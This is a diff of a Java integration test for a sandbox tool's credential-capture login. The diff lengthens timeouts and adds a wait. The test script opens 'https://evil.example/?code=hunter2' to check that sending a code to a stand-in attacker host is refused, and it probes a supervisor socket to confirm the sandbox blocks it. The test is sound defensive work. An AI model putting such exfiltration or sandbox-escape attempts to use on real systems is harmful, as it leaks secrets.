@@ -68,7 +68,7 @@ class CaptureBrowserIT {
                 "$BROWSER" 'https://github.com/login' || exit 3
                 "$BROWSER" 'https://evil.example/?code=hunter2' && exit 4
                 echo "$NONO_SUPERVISOR_PATH" > '%1$s/.socket' && mv '%1$s/.socket' '%1$s/socket'
-                i=0; while [ ! -e '%1$s/tried' ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
+                i=0; while [ ! -e '%1$s/tried' ] && [ $i -lt 1000 ]; do sleep 0.1; i=$((i+1)); done
                 echo s3cret
                 """.formatted(granted));
         List<String> credentials = new CopyOnWriteArrayList<>();
@@ -80,13 +80,13 @@ class CaptureBrowserIT {
                     directory.resolve("login.json"), """
                     {"network": {"credentials": ["svc"], "custom_credentials": {"svc": {
                        "upstream": "http://127.0.0.1:%d", "credential_key": "cmd://login", "env_var": "SVC_KEY"}}},
-                     "credential_capture": {"login": {"command": ["%s/login"], "timeout_secs": 120,
+                     "credential_capture": {"login": {"command": ["%s/login"], "timeout_secs": 240,
                        "interaction": {"open_urls": {"allow_origins": ["https://github.com"]}}}}}
                     """.formatted(upstream.getLocalPort(), programs));
             nono("run", "--allow", granted.toString(), "--profile", profile.toString(), "--", "bash", "-c", """
-                            curl -sS -o /dev/null -w '%{http_code}' --max-time 60 --noproxy '' -H "Authorization: Bearer $SVC_KEY" \
+                            curl -sS -o /dev/null -w '%{http_code}' --max-time 240 --noproxy '' -H "Authorization: Bearer $SVC_KEY" \
                               "$SVC_BASE_URL/x" > code &
-                            i=0; while [ ! -e socket ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
+                            i=0; while [ ! -e socket ] && [ $i -lt 1000 ]; do sleep 0.1; i=$((i+1)); done
                             curl -s --max-time 5 --noproxy '*' --unix-socket "$(cat socket)" http://x/; echo "connect $?"
                             ls "$(dirname "$(cat socket)")" > /dev/null 2>&1 && echo listed
                             touch tried; wait; cat code
@@ -102,6 +102,10 @@ class CaptureBrowserIT {
                             "nono: the credential capture login opened a page of https://github.com in the browser",
                             "nono: the credential capture login wanted to open https://evil.example, which was refused")
                     .says("allow_origins");
+        }
+        // Nobody waits for what opens pages, nor is it ended: it writes when its turn comes.
+        for (int i = 0; i < 2400 && (Files.notExists(opened) || Files.size(opened) == 0); i++) {
+            Thread.sleep(50);
         }
         assertThat(opened).hasContent("https://github.com/login");
         assertThat(credentials).containsExactly("Bearer s3cret");
